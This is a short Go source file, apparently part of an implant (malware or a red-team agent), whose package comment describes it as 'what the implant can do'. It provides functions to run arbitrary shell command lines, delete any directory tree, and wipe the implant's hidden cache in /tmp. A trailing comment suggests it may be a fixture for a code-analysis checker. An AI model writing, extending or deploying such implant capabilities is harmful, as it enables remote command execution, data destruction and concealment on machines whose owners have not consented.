// Package ops holds what the implant can do: its flows are finished by the packages that
// call it, through facts.
package ops

import (
	"os"
	"os/exec"
)

// Shell runs a command line.
func Shell(line string) ([]byte, error) {
	return exec.Command("/bin/sh", "-c", line).CombinedOutput()
}

// Delete removes a tree.
func Delete(path string) error {
	return os.RemoveAll(path)
}

// Cleanup removes the implant's cache.
func Cleanup() error {
	return os.RemoveAll("/tmp/.cache-x") // ok: a fixed path
}
